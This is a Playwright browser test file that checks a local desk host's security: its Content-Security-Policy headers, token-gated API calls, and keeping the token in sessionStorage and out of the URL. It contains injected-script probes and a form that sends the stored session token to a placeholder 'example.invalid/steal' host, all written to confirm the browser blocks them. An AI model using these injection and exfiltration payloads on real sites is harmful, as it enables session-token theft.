import { deskDatabase } from '../../main/workstation-db.js';
import { expect, test } from './fixtures.js';
import { openDesk } from './support.js';

/**
 * The browser host is a web page holding the keys to the desk's data. What it must not allow, tried from
 * inside the real Chromium: an API call that lacks the token; a script the page did not load from its own
 * origin (an injected <script>, a data: script, an inline handler, a string handed to a timer); a form that
 * carries data off to another site; a token that outlives the tab or lingers in the address bar.
 * host.test.ts knocks on the same doors from Node; here the browser's own enforcement is under test.
 */

type Attempt = Readonly<{ status: number; body: string }>;

test('the page cannot be navigated away and the API refuses a call without the token', async ({ page, desk }) => {
  const response = await openDesk(page, desk.host.url, deskDatabase(desk.workstation));
  const csp = response?.headers()['content-security-policy'] ?? '';
  const directives = new Map(
    csp.split(';').map((d) => {
      const [name = '', ...values] = d.trim().split(/\s+/);
      return [name, values] as const;
    }),
  );
  expect(directives.get('default-src')).toEqual(["'none'"]);
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);

  const call = (authorization: string | null) =>
    page.evaluate(async (auth): Promise<Attempt> => {
      const headers: Record<string, string> = { 'Content-Type': 'application/json' };
      if (auth !== null) headers.Authorization = auth;
      const res = await fetch('/api/call', {
        method: 'POST',
        headers,
        body: JSON.stringify({ method: 'tickets:query', input: { limit: 1 } }),
      });
      return { status: res.status, body: await res.text() };
    }, authorization);
  const refused = [await call(null), await call(`Bearer ${'x'.repeat(43)}`), await call(desk.host.token)];
  for (const attempt of refused) {
    expect(attempt.status).toBe(401);
    expect(attempt.body).not.toContain('"rows"');
  }
  // The same call with the token goes through: the refusals above are about the token, nothing else.
  const allowed = await call(`Bearer ${desk.host.token}`);
  expect(allowed.status).toBe(200);
  expect(JSON.parse(allowed.body)).toMatchObject({ ok: true, value: { total: 2000 } });

  // Injected code: none of it may run, and the browser must say CSP is why (not that it merely failed).
  type Probe = { violations: string[]; ran: string[] };
  await page.evaluate(() => {
    const probe: Probe = { violations: [], ran: [] };
    (window as unknown as { probe: Probe }).probe = probe;
    document.addEventListener('securitypolicyviolation', (e) =>
      probe.violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.probe.ran.push("inline script")';
    document.body.append(inline);
    const fromData = document.createElement('script');
    fromData.src = 'data:text/javascript,window.probe.ran.push("data: script")';
    document.body.append(fromData);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onload="window.probe.ran.push(\'inline handler\')">';
    document.body.append(holder);
    // A string run as code by the page's own timer: eval by another name.
    setTimeout('window.probe.ran.push("string timer")' as unknown as () => void, 0);
  });
  const probe = () => page.evaluate(() => (window as unknown as { probe: Probe }).probe);
  await expect
    .poll(async () => (await probe()).violations)
    .toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-elem data',
        'script-src-attr inline',
        'script-src eval',
      ]),
    );
  expect((await probe()).ran).toEqual([]);

  // A form to another site is the one navigation a page can be tricked into carrying data with.
  const before = page.url();
  const formViolation = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'https://example.invalid/steal';
        const field = document.createElement('input');
        field.name = 'token';
        field.value = sessionStorage.getItem('pult.token') ?? '';
        form.append(field);
        document.body.append(form);
        form.submit();
      }),
  );
  expect(await formViolation).toBe('form-action');
  // Read from inside the page: Playwright keeps waiting for the navigation the browser refused to start.
  const after = await page.evaluate(() => ({
    href: location.href,
    count: document.querySelector('[data-testid="ticket-count"]')?.textContent ?? null,
  }));
  expect(after.href).toBe(before);
  expect(after.count).toBeTruthy();
});

test('the token leaves the address bar and stays with this tab only', async ({ page, desk, context }) => {
  await openDesk(page, desk.host.url, deskDatabase(desk.workstation));
  expect(page.url()).not.toContain(desk.host.token);
  const stored = await page.evaluate(() => ({
    session: Object.values({ ...sessionStorage }),
    local: Object.values({ ...localStorage }),
  }));
  expect(stored.session).toContain(desk.host.token);
  expect(stored.local).not.toContain(desk.host.token);

  // Another tab opened at the bare address has no token, and gets no data.
  const other = await context.newPage();
  await other.goto(page.url());
  await expect(other.getByTestId('app-error')).toBeVisible();
  await expect(other.getByTestId('ticket-row')).toHaveCount(0);
});
